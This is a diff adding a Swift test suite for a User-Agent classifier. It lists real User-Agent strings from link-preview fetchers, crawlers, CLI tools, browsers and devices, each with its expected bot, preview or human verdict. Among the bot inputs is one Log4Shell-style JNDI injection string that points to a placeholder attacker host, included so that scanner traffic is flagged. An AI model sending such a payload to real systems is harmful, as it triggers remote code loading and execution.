@@ -1,0 +1,125 @@
+import LinkCore
+import Testing
+
+/// Pins the verdict for each family the product depends on, with a real
+/// User-Agent for each, so a rule edit that breaks one fails by name.
+@Suite("User-Agent families")
+struct UserAgentFamilyTests {
+    let classifier = UserAgentClassifier.standard
+
+    static let previewAgents: [(String, Platform)] = [
+        ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", .other),
+        ("Slack-ImgProxy (+https://api.slack.com/robots)", .other),
+        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 "
+            + "Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0", .other),  // iMessage
+        ("WhatsApp/2.19.31 i", .ios),
+        ("WhatsApp/2.16.20/i", .ios),
+        ("WhatsApp/2.17.190 A", .android),
+        ("WhatsApp/2.18.46 Android/6.0.1 Device/Xiaomi-Redmi_3S", .android),
+        ("WhatsApp/2.2230.15 N", .other),
+        ("WhatsApp/2", .other),  // Signal
+        ("TelegramBot (like TwitterBot)", .other),
+        ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", .other),
+        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", .other),
+        ("Twitterbot/1.0", .other),
+        ("LinkedInBot/1.0 (compatible; Mozilla/5.0; Jakarta Commons-HttpClient/3.1 +http://www.linkedin.com)", .other),
+        ("Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5", .other),
+        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/56.0.2924.87 Safari/537.36 "
+            + "Google (+https://developers.google.com/+/web/snippet/)", .other),
+        ("Viber", .other),
+        ("facebookexternalhit/1.1;line-poker/1.0", .other),
+        ("facebookexternalhit/1.1;kakaotalk-scrap/1.0; +https://devtalk.kakao.com/t/scrap/33984", .other),
+        ("Pinterest/0.2 (+https://www.pinterest.com/bot.html)", .other),
+        ("http.rb/4.4.1 (Mastodon/3.3.0; +https://example.social/) Bot", .other),
+        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app) "
+            + "Chrome/W.X.Y.Z Safari/537.36", .other),
+        ("Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)", .other),
+        ("Iframely/1.3.1 (+https://iframely.com/docs/about)", .other),
+    ]
+
+    @Test("preview fetchers draw cards, with the OS only for on-device WhatsApp", arguments: previewAgents)
+    func previewFetchers(userAgent: String, platform: Platform) {
+        #expect(classifier.classify(userAgent) == UserAgentClass(label: .preview, platform: platform))
+    }
+
+    static let botAgents: [String] = [
+        "",
+        "curl/8.5.0",
+        "Wget/1.21.3",
+        "python-requests/2.31.0",
+        "Go-http-client/1.1",
+        "okhttp/4.12.0",
+        "PostmanRuntime/7.36.0",
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
+            + "Chrome/120.0.6099.71 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36",
+        "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
+        "Facebot",
+        "${jndi:ldap://attacker.example/a}",
+        "Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)",
+    ]
+
+    @Test("crawlers, libraries, CLIs, scanners and empty strings are bots", arguments: botAgents)
+    func bots(userAgent: String) {
+        #expect(classifier.classify(userAgent) == UserAgentClass(label: .bot, platform: .other))
+    }
+
+    static let peopleAgents: [(String, Platform)] = [
+        ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+            + "Mobile/15E148 Instagram 323.0.3.23.54 (iPhone14,5; iOS 17_4; en_US; en; scale=3.00; 1170x2532; 563459864)",
+            .ios),
+        ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
+            + "[FBAN/FBIOS;FBDV/iPhone13,2;FBMD/iPhone;FBSN/iOS;FBSV/16.6;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]", .ios),
+        ("Mozilla/5.0 (Linux; Android 13; SM-S911B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
+            + "Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/441.0.0.23.105;]", .android),
+        ("Mozilla/5.0 (Linux; Android 12; SM-A125F Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
+            + "Version/4.0 Chrome/118.0.5993.111 Mobile Safari/537.36 musical_ly_2023109030 JsSdk/1.0", .android),
+        ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
+            + "Line/13.16.0", .ios),
+        ("Mozilla/5.0 (Linux; Android 4.2.2; CUBOT GT99 Build/JOP40D) AppleWebKit/535.19 (KHTML, like Gecko) "
+            + "Chrome/18.0.1025.166 Mobile Safari/535.19", .android),
+        ("Mozilla/5.0 (Linux; Android 9; AFTMM) AppleWebKit/537.36 (KHTML, like Gecko) Silk/112.3.1 like Chrome/112.0.5615.213 "
+            + "Safari/537.36", .android),  // Fire TV
+        ("Mozilla/5.0 (Linux; Android 12; BRAVIA 4K VH2 Build/STT1.211025.001.Z4) AppleWebKit/537.36 (KHTML, like Gecko) "
+            + "Chrome/114.0.5735.196 Mobile Safari/537.36", .android),  // Android TV
+        ("Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/538.1 (KHTML, like Gecko) Version/6.0 TV Safari/538.1", .other),
+        ("Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 Safari/537.36", .other),
+        ("Mozilla/5.0 (Mobile; LYF/F300B/LYF-F300B-001-01-15-130718-i;Android; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5",
+            .other),
+        ("Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)", .other),
+        ("Nokia6230/2.0 (04.44) Profile/MIDP-2.0 Configuration/CLDC-1.1", .other),
+        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+            .desktop),
+        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 "
+            + "Safari/605.1.15", .desktop),
+        ("Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+            .desktop),
+        ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0", .desktop),
+        ("Overcast/3.0 (+http://overcast.fm/; iOS podcast app)", .ios),
+        ("Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
+            + "Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook", .android),
+    ]
+
+    @Test("browsers, in-app browsers and apps are people on their OS family", arguments: peopleAgents)
+    func people(userAgent: String, platform: Platform) {
+        #expect(classifier.classify(userAgent) == UserAgentClass(label: .human, platform: platform))
+    }
+
+    @Test("case does not matter")
+    func caseInsensitive() {
+        #expect(classifier.classify("SLACKBOT-LINKEXPANDING 1.0").label == .preview)
+        #expect(classifier.classify("CURL/8.0").label == .bot)
+    }
+
+    @Test("explain names the deciding rule")
+    func explainNamesRule() {
+        let (verdict, rule) = classifier.explain("curl/8.5.0")
+        #expect(verdict == UserAgentClass(label: .bot, platform: .other))
+        #expect(rule.contains("curl"))
+        #expect(classifier.explain("").rule == "empty User-Agent")
+        let (human, reason) = classifier.explain("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)")
+        #expect(human == UserAgentClass(label: .human, platform: .ios))
+        #expect(reason.contains("iphone"))
+    }
+}
